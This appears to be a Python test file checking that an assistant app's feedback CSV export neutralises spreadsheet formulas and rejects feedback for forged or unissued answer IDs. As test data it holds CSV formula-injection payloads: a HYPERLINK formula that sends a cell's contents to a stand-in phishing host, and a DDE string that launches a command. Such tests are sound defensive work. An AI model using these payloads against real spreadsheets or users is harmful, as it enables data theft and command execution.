"""F9: the feedback export neutralises formulas; feedback is accepted only for answers the server issued."""

import csv
import io

import httpx

from assistant.store.feedback import FeedbackStore


def test_export_neutralises_formulas(tmp_path):
    store = FeedbackStore(tmp_path / "f.sqlite")
    store.add("id", "down", '=HYPERLINK("https://phish.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "@x")
    row = next(csv.reader(io.StringIO(store.export_csv().splitlines()[1])))
    assert row[4].startswith("'=HYPERLINK") and row[5].startswith("'+cmd") and row[6] == "'@x"


def test_feedback_only_for_issued_answers(open_site):
    fake = httpx.post(open_site + "/api/feedback", json={"answer_id": "does-not-exist", "rating": "down"})
    assert fake.status_code == 400
    answer_id = httpx.post(open_site + "/api/ask", json={"question": "Who decides on licences?"}).json()["answer_id"]
    assert httpx.post(open_site + "/api/feedback", json={"answer_id": answer_id, "rating": "up"}).status_code == 200
    forged = answer_id[:-1] + ("0" if answer_id[-1] != "0" else "1")
    assert httpx.post(open_site + "/api/feedback", json={"answer_id": forged, "rating": "up"}).status_code == 400
